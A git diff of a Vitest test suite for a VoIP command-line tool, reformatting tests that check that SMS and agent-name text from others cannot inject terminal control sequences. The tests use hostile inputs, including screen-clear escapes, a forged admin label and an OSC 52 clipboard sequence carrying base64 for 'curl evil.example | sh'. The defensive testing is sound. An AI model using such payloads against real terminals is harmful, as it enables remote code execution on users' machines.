@@ -1,6 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { VoipbinEmulator } from '../emulator/index.js';
-import { makeCall, makeSms } from '../emulator/fixtures.js';
+import type { VoipbinEmulator } from '../../emulator/index.js';
+import { makeCall, makeSms } from '../../emulator/fixtures.js';
 import { CliProcess, runCli } from '../support/cli-process.js';
 import { PERMISSION, seedAccount, startEmulator, type Account } from '../support/harness.js';
 
@@ -51,11 +51,16 @@ describe('terminal output of text others control', () => {
   it('run, human: an SMS full of escape sequences prints as one plain line', async () => {
     const p = run(['--notify', 'none', '--log-level', 'info']);
     await untilText(p, 'listening', () => p.stdout.includes('listening on'));
-    emu.publish('message_created', makeSms({ customer_id: acct.customerId, source: { type: 'tel', target: '+15550142', name: `Mallory${CLEAR}` }, text: HOSTILE }));
+    emu.publish(
+      'message_created',
+      makeSms({ customer_id: acct.customerId, source: { type: 'tel', target: '+15550142', name: `Mallory${CLEAR}` }, text: HOSTILE }),
+    );
     await untilText(p, 'the message', () => p.stdout.includes('SMS from'));
     expect(p.stdout).not.toMatch(CONTROLS);
     expect(p.stderr).not.toMatch(CONTROLS);
-    expect(p.stdout).toMatch(/🔔 SMS from Mallory \[2J \[H to \+15551230000 — Call me back ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== \[2J \[H Overwritten 31m now/);
+    expect(p.stdout).toMatch(
+      /🔔 SMS from Mallory \[2J \[H to \+15551230000 — Call me back ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== \[2J \[H Overwritten 31m now/,
+    );
   });
 
   it('run --json: control characters in frame fields are escaped, and parse back to the same text', async () => {
@@ -69,7 +74,13 @@ describe('terminal output of text others control', () => {
   });
 
   it('whoami and the logs: a name chosen by whoever set up the agent cannot write to the terminal', async () => {
-    const agent = emu.addAgent({ customerId: acct.customerId, username: `eve${CLEAR}`, password: 'pw-pw-pw-pw', name: `Eve${OSC52}\nagent forged (admin)`, permission: PERMISSION.CustomerAgent });
+    const agent = emu.addAgent({
+      customerId: acct.customerId,
+      username: `eve${CLEAR}`,
+      password: 'pw-pw-pw-pw',
+      name: `Eve${OSC52}\nagent forged (admin)`,
+      permission: PERMISSION.CustomerAgent,
+    });
     const token = emu.issueJwt(agent.id);
     const who = await runCli(['whoami', '--api-url', emu.url], { VOIPBIN_TOKEN: token });
     expect(who.code, who.stderr).toBe(0);
